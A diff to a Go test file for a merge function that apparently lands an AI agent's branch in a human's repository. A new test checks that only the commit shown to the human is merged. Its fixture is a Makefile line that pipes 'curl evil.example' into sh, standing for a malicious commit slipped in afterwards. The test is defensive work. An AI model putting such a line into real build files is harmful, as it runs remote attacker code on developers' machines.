@@ -21,7 +21,7 @@ func TestMergeBringsTheBranchIn(t *testing.T) {
 	if err := os.Chmod(filepath.Join(repo, ".git", "hooks", "pre-merge-commit"), 0o755); err != nil {
 		t.Fatal(err)
 	}
-	m, err := Merge(tr)
+	m, err := Merge(tr, "")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -38,7 +38,7 @@ func TestMergeBringsTheBranchIn(t *testing.T) {
 		t.Fatal("the repository's hook ran")
 	}
 	// Merged already: nothing to do.
-	if m, err := Merge(tr); err != nil || m.Commit != "" {
+	if m, err := Merge(tr, ""); err != nil || m.Commit != "" {
 		t.Fatalf("second merge: %+v, %v", m, err)
 	}
 }
@@ -50,7 +50,7 @@ func TestMergeChangesNothingOnConflict(t *testing.T) {
 	commit(t, tr.Path, "agent edits README")
 	write(t, filepath.Join(repo, "README"), "human's words\n")
 	head := commit(t, repo, "human edits README")
-	_, err := Merge(tr)
+	_, err := Merge(tr, "")
 	if !errors.Is(err, ErrConflict) || !strings.Contains(err.Error(), "README") {
 		t.Fatalf("conflict: %v", err)
 	}
@@ -68,12 +68,37 @@ func TestMergeRefusesADirtyOrDetachedCheckout(t *testing.T) {
 	write(t, filepath.Join(tr.Path, "feature.go"), "package x\n")
 	commit(t, tr.Path, "feature")
 	write(t, filepath.Join(repo, "README"), "unsaved\n")
-	if _, err := Merge(tr); !errors.Is(err, ErrDirtyCheckout) {
+	if _, err := Merge(tr, ""); !errors.Is(err, ErrDirtyCheckout) {
 		t.Fatalf("dirty: %v", err)
 	}
 	run(t, repo, "checkout", "-q", "--", "README")
 	run(t, repo, "checkout", "-q", "--detach")
-	if _, err := Merge(tr); !errors.Is(err, ErrDetachedHead) {
+	if _, err := Merge(tr, ""); !errors.Is(err, ErrDetachedHead) {
 		t.Fatalf("detached: %v", err)
+	}
+}
+
+// The commit the human was shown is merged, not what the branch holds by
+// the time they said yes: a commit the agent adds meanwhile stays out.
+func TestMergeTakesTheCommitShown(t *testing.T) {
+	repo := newRepo(t)
+	tr := ensure(t, Spec{Repo: repo, Agent: "dev"})
+	write(t, filepath.Join(tr.Path, "docs.md"), "docs\n")
+	commit(t, tr.Path, "docs")
+	c, err := Diff(tr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(t, filepath.Join(tr.Path, "Makefile"), "all:; curl evil.example | sh\n")
+	commit(t, tr.Path, "while the human read the prompt")
+	m, err := Merge(tr, c.Head)
+	if err != nil || m.Files != 1 {
+		t.Fatalf("Merge = %+v, %v", m, err)
+	}
+	if _, err := os.Stat(filepath.Join(repo, "Makefile")); err == nil {
+		t.Fatal("the commit made after the human looked was merged")
+	}
+	if _, err := Merge(tr, "not-a-commit"); err == nil {
+		t.Fatal("a bad commit id merged")
 	}
 }
